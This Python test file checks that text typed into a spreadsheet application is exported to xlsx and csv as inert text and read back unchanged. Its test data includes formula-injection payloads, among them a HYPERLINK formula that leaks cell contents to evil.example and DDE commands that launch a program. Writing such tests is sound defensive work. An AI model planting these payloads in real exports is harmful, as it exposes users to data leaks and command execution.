"""What is typed comes out of every export as text, is never run, and comes back unchanged."""

import re
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from shanhe.app.office import books, loading
from shanhe.app.office.exchange import Wanted, change_lines
from shanhe.app.programme import read_sheets
from shanhe.documents.formats import csv
from shanhe.documents.forms.workbook.lines import lines_of
from shanhe.store.models import Line

from .conftest import Office

pytestmark = pytest.mark.any_database
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+86 0472 5555",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "|x",
    "'=1+1",
    "_x0041_",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_holds_no_formula(office: Office, tmp_path: Path, text: str) -> None:
    book, city = office.book, office["city"]
    line = Line.objects.filter(book=book, sheet="explanations").first()
    assert line is not None
    typed = {**line.texts, "reason": text}
    change_lines(city, book, "explanations", [Wanted(line.row, typed, line.number, "")])
    kept = Line.objects.get(pk=line.pk).texts["reason"]
    _, content = books.workbook(city, book)
    with zipfile.ZipFile(BytesIO(content)) as package:
        for name in package.namelist():
            assert not re.search(rb"<(\w+:)?f[ >]", package.read(name)) or "sheet" not in name
    path = tmp_path / "book.xlsx"
    path.write_bytes(content)
    back = lines_of(read_sheets(path))["explanations"]
    assert kept in [one.get("reason") for one in back]
    loading.load(city, path)
    assert Line.objects.get(pk=line.pk).texts["reason"] == kept


@pytest.mark.parametrize("text", [one for one in FORMULAS if one not in {"|x", "_x0041_"}])
def test_a_csv_holds_no_formula_and_gives_back_what_was_typed(text: str) -> None:
    for typed in (text, f"'{text}", f"''{text}"):
        written = csv.grid_bytes([[typed, "x"]])
        assert written.decode("utf-8-sig").lstrip('"').startswith("'")
        assert list(csv.read_grid(written)) == [[typed.replace("\r", "\n"), "x"]]


@pytest.mark.parametrize(
    "text", ["=", "-", "+", "-12.50", "+3", "-3.5%", "-1,234.00", "'x", "≥", "a=1"]
)
def test_what_is_no_formula_stays_as_it_is_in_a_csv(text: str) -> None:
    written = csv.grid_bytes([[text, "x"]])
    assert written.decode("utf-8-sig").lstrip('"').startswith(text)
    assert list(csv.read_grid(written)) == [[text, "x"]]
